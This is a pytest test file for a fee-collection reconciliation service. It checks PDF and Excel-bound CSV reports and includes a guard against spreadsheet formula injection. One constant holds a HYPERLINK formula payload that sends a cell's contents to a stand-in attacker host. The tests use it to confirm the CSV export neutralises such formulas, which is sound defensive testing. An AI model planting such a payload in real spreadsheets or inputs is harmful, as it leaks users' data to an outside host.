"""A run's reports as finance opens them: the PDF rendered by PDFium (Chrome's engine) and read
back as text, the CSV parsed as Excel would receive it."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pypdfium2 as pdfium
import pypdfium2.raw as pdfium_c
import pytest
from flask import Flask
from flask.testing import FlaskClient

from core.clock import today
from core.db import Database
from core.money import format_yuan
from notices.numbers import group_digits
from receipts.service import receipt_settings
from reconciliation import reports
from reconciliation.matching import BusinessDay
from reconciliation.models import ReconciliationRun
from reconciliation.service import reconcile
from tests.conftest import Staff, issue, skip_or_fail
from tests.webhooks.conftest import Bank

REASON = "小微企业减半征收（财税〔2019〕13号）"
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
PAGES_DIR = Path("/tmp")


@pytest.fixture(autouse=True)
def _font_present(app: Flask) -> None:
    if not Path(str(app.config["FEESVC_PDF_FONT"])).is_file():
        skip_or_fail(f"PDF font missing: {app.config['FEESVC_PDF_FONT']}")


@dataclass
class Day:
    run_id: int
    cash_notice: str
    reduced_notice: str
    bank_notice: str


def _json(response: Any, status: int = 200) -> dict[str, Any]:
    assert response.status_code == status, response.json
    return dict(response.json)


def _created(response: Any) -> dict[str, Any]:
    return _json(response, 201)


def pay(client: FlaskClient, staff: Staff, number: str, amount: int, method: str) -> None:
    _created(client.post(f"/api/v1/notices/{number}/payments", json={"amount": amount, "method": method},
                         headers=staff.headers("cashier")))


def run_reconciliation(app: Flask, db: Database) -> int:
    run = reconcile(db, receipt_settings(app.config), today(app.config["FEESVC_TIMEZONE"]), started_by="test")
    return run.id


@pytest.fixture
def day(app: Flask, db: Database, client: FlaskClient, staff: Staff, bank: Bank) -> Day:
    """Today: cash, card and bank payments, a reduced (overridden) line, a short cash drawer, an
    unmatched statement credit and a debit line; one exception resolved with a formula as note."""
    cash = _created(issue(client, staff, items=[{"fee_code": "BDC-ZZ", "quantity": 1}]))["number"]
    reduced = _created(issue(client, staff, items=[
        {"fee_code": "BDC-FZZ", "quantity": 2, "override_amount": 55000, "override_reason": REASON},
        {"fee_code": "BDC-GBF", "quantity": 3}]))["number"]
    _created(issue(client, staff, department="GA", who="window_other", items=[{"fee_code": "GA-SFZ", "quantity": 1}]))
    by_bank = _created(issue(client, staff, items=[{"fee_code": "BDC-ZZ", "quantity": 1}]))["number"]
    pay(client, staff, cash, 8000, "cash")
    pay(client, staff, reduced, 58000, "card")
    assert bank.pay(by_bank, 8000, webhook_id="wh-report-1", reference="ICBC-REPORT-0001").status_code in (200, 204)
    closed = client.post("/api/v1/shifts/current/close", json={"declared_cash": 7900, "note": "少一元"},
                         headers=staff.headers("cashier"))
    assert closed.status_code == 200, closed.json
    booked = datetime.now().astimezone().isoformat(timespec="seconds")
    statement = ("bank_reference,notice_number,amount,currency,booked_at,payer_name,payer_account\r\n"
                 f"ICBC-REPORT-0001,{by_bank},8000,CNY,{booked},张三,6222020200001234567\r\n"
                 f"ICBC-REPORT-0002,,12345,CNY,{booked},王五,6222020200005555555\r\n").encode()
    imported = client.post("/api/v1/bank-statements", headers=staff.headers("finance"),
                           data={"bank_code": bank.code, "file": (io.BytesIO(statement), "statement.csv")})
    assert imported.status_code == 201, imported.json
    run_id = run_reconciliation(app, db)
    listed = _json(client.get(f"/api/v1/reconciliation/runs/{run_id}/exceptions", headers=staff.headers("finance")))
    kinds = sorted(item["type"] for item in listed["items"])
    assert kinds == ["cash_drawer_mismatch", "fee_amount_mismatch", "statement_line_unmatched"], listed
    drawer = next(item for item in listed["items"] if item["type"] == "cash_drawer_mismatch")
    resolved = client.post(f"/api/v1/reconciliation/exceptions/{drawer['id']}/resolve", json={"note": INJECTION},
                           headers=staff.headers("finance"))
    assert resolved.status_code == 200, resolved.json
    return Day(run_id, cash, reduced, by_bank)


@pytest.fixture
def documents() -> Iterator[list[pdfium.PdfDocument]]:
    opened: list[pdfium.PdfDocument] = []
    yield opened
    for document in opened:
        document.close()


def open_pdf(data: bytes, opened: list[pdfium.PdfDocument], *, save_as: str | None = None) -> list[str]:
    """The text of every page as PDFium extracts it; each page saved as a PNG to look at."""
    assert data.startswith(b"%PDF-")
    document = pdfium.PdfDocument(data)
    opened.append(document)
    texts = []
    for index in range(len(document)):
        page = document[index]
        if save_as:
            page.render(scale=150 / 72).to_pil().save(PAGES_DIR / f"{save_as}-{index + 1}.png")
        for obj in page.get_objects():
            if obj.type == pdfium_c.FPDF_PAGEOBJ_TEXT:  # a non-embedded CJK font shows blank in Chrome
                assert pdfium_c.FPDFFont_GetIsEmbedded(pdfium_c.FPDFTextObj_GetFont(obj.raw)) == 1
        texts.append(page.get_textpage().get_text_range().replace("\r\n", "").replace("\n", ""))
    return texts


def test_pdf_report_shows_the_day_in_embedded_chinese(app: Flask, db: Database, day: Day,
                                                      documents: list[pdfium.PdfDocument]) -> None:
    with db.unit_of_work() as session:
        data = reports.render_pdf(session, session.get_one(ReconciliationRun, day.run_id), app.config)
    pages = open_pdf(data, documents, save_as="report-page")
    first, everything = pages[0], "".join(pages)
    assert str(app.config["FEESVC_CENTRE_NAME"]) in first
    assert "收费对账报告" in first and "临时" in first  # today's run is provisional
    assert today(app.config["FEESVC_TIMEZONE"]).isoformat() in first
    assert f"第 1 页，共 {len(pages)} 页" in first
    # Summary: 3 notices of BDC (80 + 580 + 80) and one of GA (20); cash 80, card 580, bank 80.
    assert "760.00" in first and "580.00" in first and "80.00" in first and "203.45" in first
    for label in ("窗口·现金", "窗口·银行卡", "银行缴费", "对账单到账"):  # the chart's Chinese labels
        assert label in everything
    # Per department and per fee item: the reduction shows as standard 1,100.00, reduced by 550.00.
    for text in ("县不动产登记中心", "县公安局户政窗口", "BDC-FZZ", "1,100.00", "550.00", "居民身份证工本费"):
        assert text in everything
    # The exception list, with status and the resolution note.
    for text in ("收费金额与公示标准不符", "日结现金不符", "银行到账无对应缴费", "ICBC-REPORT-0002", "未处理", "已处理",
                 "HYPERLINK", group_digits(day.reduced_notice), "79.00"):
        assert text in everything, text


def test_long_exception_lists_flow_onto_further_pages_with_their_header(
        app: Flask, db: Database, client: FlaskClient, staff: Staff, documents: list[pdfium.PdfDocument]) -> None:
    for n in range(45):
        _created(issue(client, staff, items=[{"fee_code": "BDC-ZZ", "quantity": 1, "override_amount": 4000 + n,
                                              "override_reason": f"减免第 {n + 1} 例：低保家庭，依县民政局证明"}]))
    run_id = run_reconciliation(app, db)
    with db.unit_of_work() as session:
        data = reports.render_pdf(session, session.get_one(ReconciliationRun, run_id), app.config)
    pages = open_pdf(data, documents, save_as="report-long-page")
    listing = [i for i, text in enumerate(pages) if "收费金额与公示标准不符" in text and "实为（元）" in text]
    assert len(listing) >= 2, "the list did not continue onto another page"
    for index in listing:  # the header row repeats on each page of the list
        assert "通知书编号 / 银行流水号" in pages[index]
    everything = "".join(pages)
    assert all(format_yuan(4000 + n) in everything for n in range(45))
    assert f"第 {len(pages)} 页，共 {len(pages)} 页" in pages[-1]


def test_an_empty_past_day_renders_without_the_provisional_mark(app: Flask, db: Database, staff: Staff,
                                                                 documents: list[pdfium.PdfDocument]) -> None:
    yesterday = today(app.config["FEESVC_TIMEZONE"]) - timedelta(days=1)
    run = reconcile(db, receipt_settings(app.config), yesterday, started_by="test")
    with db.unit_of_work() as session:
        data = reports.render_pdf(session, session.get_one(ReconciliationRun, run.id), app.config)
        assert reports.render_csv(session, session.get_one(ReconciliationRun, run.id)).decode("utf-8").count(
            "\r\n") == 1  # the header alone
    pages = open_pdf(data, documents, save_as="report-empty-page")
    everything = "".join(pages)
    assert "本日无差异" in everything and yesterday.isoformat() in everything
    assert "临时" not in everything


def test_department_and_fee_item_totals(app: Flask, db: Database, day: Day) -> None:
    business_day = BusinessDay.of(today(app.config["FEESVC_TIMEZONE"]), app.config["FEESVC_TIMEZONE"])
    with db.unit_of_work() as session:
        departments = {row.name: row for row in reports.department_totals(session, business_day)}
        fees = {row.code: row for row in reports.fee_item_totals(session, business_day)}
    assert departments["县不动产登记中心"] == reports.DepartmentRow("县不动产登记中心", 3, 74000, 0, 3, 74000)
    assert departments["县公安局户政窗口"] == reports.DepartmentRow("县公安局户政窗口", 1, 2000, 0, 0, 0)
    assert (fees["BDC-FZZ"].quantity, fees["BDC-FZZ"].standard_amount, fees["BDC-FZZ"].amount) == (2, 110000, 55000)
    assert (fees["BDC-ZZ"].quantity, fees["BDC-ZZ"].amount) == (2, 16000)
    assert (fees["BDC-GBF"].quantity, fees["BDC-GBF"].amount) == (3, 3000)


def test_csv_of_the_exceptions_opens_in_excel(db: Database, client: FlaskClient, staff: Staff, day: Day) -> None:
    with db.unit_of_work() as session:
        body = reports.render_csv(session, session.get_one(ReconciliationRun, day.run_id))
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8 only with it
    text = body.decode("utf-8")
    assert "\r\n" in text and "\n" not in text.replace("\r\n", "")
    rows = list(csv.DictReader(io.StringIO(text[1:], newline="")))
    assert len(rows) == 3
    by_type = {row["类型代码"]: row for row in rows}
    fee = by_type["fee_amount_mismatch"]
    assert (fee["类型"], fee["应为(元)"], fee["实为(元)"]) == ("收费金额与公示标准不符", "1100.00", "550.00")
    assert fee["状态"] == "未处理"
    assert fee["通知书编号"] == group_digits(day.reduced_notice)  # text to Excel, not 9.9E+19
    drawer = by_type["cash_drawer_mismatch"]
    assert (drawer["应为(元)"], drawer["实为(元)"], drawer["状态"]) == ("80.00", "79.00", "已处理")
    assert drawer["处理说明"] == "'" + INJECTION  # a formula typed by a user is shown, never run
    assert drawer["处理人"] == staff.usernames["finance"]
    line = by_type["statement_line_unmatched"]
    assert (line["银行流水号"], line["实为(元)"], line["严重程度"]) == ("ICBC-REPORT-0002", "123.45", "高")
    # Through the API, as the finance desk downloads it.
    response = client.get(f"/api/v1/reconciliation/runs/{day.run_id}/report.csv", headers=staff.headers("finance"))
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.data == body
    pdf = client.get(f"/api/v1/reconciliation/runs/{day.run_id}/report.pdf", headers=staff.headers("finance"))
    assert pdf.status_code == 200 and pdf.mimetype == "application/pdf" and pdf.data.startswith(b"%PDF-")


@pytest.mark.parametrize(("value", "written"), [
    ("=1+2", "'=1+2"),
    ("+86 10 1234", "'+86 10 1234"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1", "'\t=1"),
    ("＝1+2", "'＝1+2"),
    ("-12.50", "-12.50"),  # a plain negative number stays a number
    ("-5", "-5"),
    ("张三", "张三"),
    ("80.00", "80.00"),
    (None, ""),
    (42, "42"),
])
def test_formula_injection_guard(value: object, written: str) -> None:
    assert reports.safe_cell(value) == written
